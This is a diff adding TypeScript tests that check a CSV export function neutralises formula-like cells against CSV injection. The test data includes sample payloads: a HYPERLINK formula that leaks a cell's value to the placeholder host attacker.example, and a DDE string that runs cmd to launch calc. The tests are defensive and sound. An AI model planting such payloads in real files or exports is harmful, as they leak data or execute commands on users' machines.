@@ -38,3 +38,25 @@ describe('toCsv', () => {
     ]);
   });
 });
+
+describe('toCsv neutralises formulas (OWASP, CSV injection)', () => {
+  const cell = (value: string | number) => parseCsv(toCsv(['x'], [[value]]))[1]![0];
+
+  it.each([
+    ['=HYPERLINK("http://attacker.example/?leak="&A2,"Open")'],
+    ['+1+1'],
+    ['-2+3'],
+    ["@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['\t=1+1'],
+    ['\r=1+1'],
+  ])('a text cell starting like a formula is read as text: %j', (text) => {
+    const csv = toCsv(['x'], [[text]]);
+
+    expect(csv.split('\r\n')[1]!.startsWith(`"'`)).toBe(true);
+    expect(cell(text)).toBe(`'${text}`);
+  });
+
+  it('leaves numbers as numbers (a negative change is not a formula) and other text as it was', () => {
+    expect(toCsv(['change', 'name'], [[-0.4, 'Ana = Bo']])).toBe('change,name\r\n-0.4,Ana = Bo\r\n');
+  });
+});
